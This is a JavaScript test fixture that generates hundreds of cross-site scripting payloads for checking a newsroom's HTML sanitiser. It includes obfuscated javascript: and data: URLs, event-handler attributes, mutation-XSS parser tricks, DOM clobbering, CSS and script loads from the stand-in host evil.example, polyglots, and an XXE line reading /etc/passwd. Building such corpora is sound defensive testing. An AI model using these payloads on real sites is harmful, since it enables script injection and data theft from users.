// Attacks for all fields in which a newsroom writes text: combined from parts, and written by hand.
//
// A script that runs sets `window.pwned`; a request that leaves goes to evil.example.

const RUN = "window.pwned=1";
const EVIL = "//evil.example/x";

const entities = (text, write) => [...text].map((it) => write(it.codePointAt(0))).join("");
const decimal = (text) => entities(text, (it) => `&#${it};`);
const padded = (text) => entities(text, (it) => `&#${String(it).padStart(7, "0")}`);
const hexadecimal = (text) => entities(text, (it) => `&#x${it.toString(16)};`);

// Addresses that run a script when they are followed, plain and disguised.
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \n javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscr\ript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `${decimal("javascript:")}${RUN}`,
  `${padded("javascript:")}${RUN}`,
  `${hexadecimal("javascript:")}${RUN}`,
  `javascript://evil.example/%0A${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${RUN}>`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!/`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>top.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3Aud2luZG93LnB3bmVkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:text/javascript,${RUN}`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/temporary/x`,
  `file:///etc/passwd`,
];

// Elements with an address. An address of the web is no attack on a picture, so there is none here.
const PLACES = [
  (it) => `<a href="${it}">a</a>`,
  (it) => `<a href='${it}' target=_top ping=${EVIL}>a</a>`,
  (it) => `<map name=m><area shape=default href="${it}"></map><img usemap=#m src="${it}">`,
  (it) => `<img src="${it}" srcset="${it} 1x, ${it} 2x" data-src="${it}" lowsrc="${it}" dynsrc="${it}">`,
  (it) => `<picture><source srcset="${it}"><img alt="${it}"></picture>`,
  (it) => `<iframe src="${it}" srcdoc="<script>top.${RUN}</script>" title="${it}"></iframe>`,
  (it) => `<embed src="${it}"><object data="${it}"><param name=movie value="${it}"></object>`,
  (it) =>
    `<form action="${it}"><input type=image src="${it}" formaction="${it}"><button formaction="${it}">a</button></form>`,
  (it) =>
    `<video src="${it}" poster="${it}" autoplay><source src="${it}"><track default src="${it}"></video><audio src="${it}" autoplay></audio>`,
  (it) =>
    `<svg><a xlink:href="${it}" href="${it}"><text>a</text></a><use href="${it}"/><image href="${it}"/><animate attributeName=href values="${it}"/></svg>`,
  (it) =>
    `<math href="${it}" xlink:href="${it}"><mi xlink:href="${it}">a</mi><maction actiontype="statusline#${it}">a</maction></math>`,
  (it) => `<link rel=stylesheet href="${it}"><meta http-equiv=refresh content="0;url=${it}"><base href="${it}">`,
  (it) => `<blockquote cite="${it}" class=twitter-tweet><q cite="${it}">a</q><a href="${it}">a</a></blockquote>`,
  (it) => `<table background="${it}"><tr><td background="${it}">a<td style="background:url(${it})">b</table>`,
  (it) =>
    `<div class=fb-post data-href="${it}"></div><blockquote class=instagram-media data-instgrm-permalink="${it}">a</blockquote>`,
];

const HANDLED = [
  "img src=x",
  "a href=/a",
  "p",
  "video controls src=/a.mp4",
  "table",
  "details open",
  "svg",
  "math",
  "figure class=gallery",
  "x-card",
  "iframe",
  "input autofocus",
];
const HANDLERS = [
  "onerror",
  "onload",
  "onclick",
  "onfocus autofocus tabindex=0 onfocus",
  "ontoggle",
  "onanimationstart style=animation-name:x onanimationstart",
  "onpointerrawupdate",
  "ONBEGIN",
];
// The spellings of an attribute; each handler takes the next one.
const WRITTEN = [
  (name) => ` ${name}="${RUN}"`,
  (name) => ` ${name}='${RUN}'`,
  (name) => ` ${name}=${RUN}`,
  (name) => `/${name}=\`${RUN}\``,
  (name) => `\f${name}\n=\n"${RUN}"`,
  (name) => ` x="y"${name}="${decimal(RUN)}"`,
  (name) => ` " ${name}=${RUN}//`,
];

const BY_HAND = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${EVIL}.js></sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `<script\x0b>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script><script nomodule>${RUN}</script>`,
  `<script type=importmap>{"imports":{"a":"${EVIL}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/x"]}]}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&lt;p&gt;&lt;img src=x onerror=${RUN}&gt;&lt;/p&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u0000<script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `＜script＞${RUN}＜/script＞`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `--><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!>`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</article></article-reader><script>${RUN}</script>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<textarea><img src=x onerror=${RUN}></textarea>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><img src=x onerror=${RUN}></noembed><noframes><img src=x onerror=${RUN}></noframes>`,
  `<style><img src="</style><img src=x onerror=${RUN}//">`,
  `<style>@import '${EVIL}.css';body{background:url(${EVIL})}*{display:none!important}</style>`,
  `<p style="background:url(${EVIL});position:fixed;inset:0;z-index:9">a</p>`,
  `<p style="width:expression(${RUN});behavior:url(${EVIL});-moz-binding:url(${EVIL}#x)">a</p>`,
  `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<slot name=article><img src=x onerror=${RUN}></slot>`,
  `<article-reader src="${EVIL}.json" loading=eager></article-reader>`,
  `<p is=article-reader src="${EVIL}.json">a</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mi><svg><style><img src=x onerror=${RUN}></style></svg></mi></math>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><script>${RUN}</script><script href=${EVIL}.js /></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<select><template><img src=x onerror=${RUN}></template><option><img src=x onerror=${RUN}></select>`,
  `<table><tr><script>${RUN}</script><td><svg/onload=${RUN}></table>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  `<body onload=${RUN} onhashchange=${RUN}>`,
  `<html onclick=${RUN}><head><base href=${EVIL}></head>`,
  `<marquee onstart=${RUN}>a</marquee><keygen autofocus onfocus=${RUN}><isindex action=javascript:${RUN}>`,
  `<portal src=${EVIL}></portal><fencedframe></fencedframe><applet code=${EVIL}></applet>`,
  `<link rel="dns-prefetch preconnect prefetch preload modulepreload" as=script href=${EVIL}>`,
  `<meta http-equiv=Content-Security-Policy content="script-src *"><meta name=referrer content=unsafe-url>`,
  `<meta http-equiv=refresh content="0;url=https:${EVIL}">`,
  `<iframe src=https:${EVIL} onload=${RUN}></iframe><iframe srcdoc="<img src=https:${EVIL}>"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/a&quot;onload=${RUN}//?x=&quot;><img src=x onerror=${RUN}>"></iframe>`,
  `<video src=https:${EVIL} autoplay preload=auto></video><audio autoplay><source src=https:${EVIL}></audio>`,
  `<video controls><source src=https:${EVIL}.mp4><track default kind=captions src=https:${EVIL}.vtt></video>`,
  `<blockquote class=twitter-tweet><a href=https://twitter.com/a/status/1>a</a></blockquote><script src=https://platform.twitter.com/widgets.js></script>`,
  `<object data=https:${EVIL}></object><embed src=https:${EVIL}>`,
  `<form action=https:${EVIL}><input name=attributes><input name=nodeType><input name=parentNode></form>`,
  `<form><input name=firstChild><input name=nextSibling><input name=localName><input name=nodeValue>a</form>`,
  `<form><input name=getAttribute><input name=getAttributeNames><input name=childNodes>a</form>`,
  `<form name=body><img name=documentElement><input name=firstChild></form><form name=body></form>`,
  `<a id=pwned name=pwned href=#pwned>a</a><form id=pwned name=pwned></form><img name=pwned>`,
  `<a id=customElements></a><a id=trustedTypes></a><img name=currentScript><form name=cookie>`,
  `<a href=#x onclick=${RUN}>a</a><p id='x" onclick="${RUN}'>b</p><p id=__proto__>c</p>`,
  `<time datetime='"onclick="${RUN}'>a</time><abbr title='"onmouseover="${RUN}'>b</abbr>`,
  `<p lang='"onclick="${RUN}' dir='"onclick="${RUN}' class='"onclick="${RUN}'>a</p>`,
  `<ol start='1"onclick="${RUN}'><li value='1"onclick="${RUN}'>a</ol><td colspan='2"onclick="${RUN}'>`,
  `<button popovertarget=x commandfor=x command=show-modal onclick=${RUN}>a</button><dialog open id=x ontoggle=${RUN}>b</dialog>`,
  `<p contenteditable accesskey=x tabindex=9 draggable=true onbeforeinput=${RUN}>a</p>`,
  `<p part=headline slot=article exportparts=headline itemprop=x data-leptos-x=1>a</p>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `';${RUN}//\\';${RUN}//";${RUN}//\\";${RUN}//--></script>">'><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %>`,
  `]]>"'></script><script>${RUN}</script>`,
  `\u2028${RUN}\u2029`,
];

/** Each attack, as a text and as an address. */
export const ATTACKS = [
  ...ADDRESSES.flatMap((address) => PLACES.map((place) => ({ text: place(address), url: address }))),
  ...HANDLED.flatMap((element, row) =>
    HANDLERS.map((handler, column) => {
      const text = `<${element}${WRITTEN[(row + column) % WRITTEN.length](handler)}>a</${element.split(" ")[0]}>`;
      return { text, url: text };
    }),
  ),
  ...BY_HAND.map((text) => ({ text, url: text })),
];

/** The first of those written by hand. */
export const BY_HAND_FROM = ATTACKS.length - BY_HAND.length;
